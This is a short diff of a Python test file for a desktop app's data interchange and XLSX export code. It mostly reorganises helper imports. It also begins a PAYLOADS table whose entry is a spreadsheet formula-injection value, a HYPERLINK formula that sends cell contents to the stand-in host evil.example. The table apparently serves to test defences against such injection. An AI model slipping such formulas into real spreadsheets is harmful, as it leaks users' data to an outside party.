@@ -24,7 +24,12 @@ from cpe_desktop.services.interchange.mapped_import import import_mapped, previe
 from cpe_desktop.services.interchange.mapping import guess_mapping
 from cpe_desktop.services.interchange.tabular import read_table
 from cpe_desktop.services.interchange.xlsx_format import HEADINGS, export_records_xlsx
-from tests.interchange_data import other_database, saved_records, table_counts, two_people_document
+from tests.helpers.interchange_documents import (
+    other_database,
+    saved_records,
+    table_counts,
+    two_people_document,
+)
 
 PAYLOADS = {
     "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
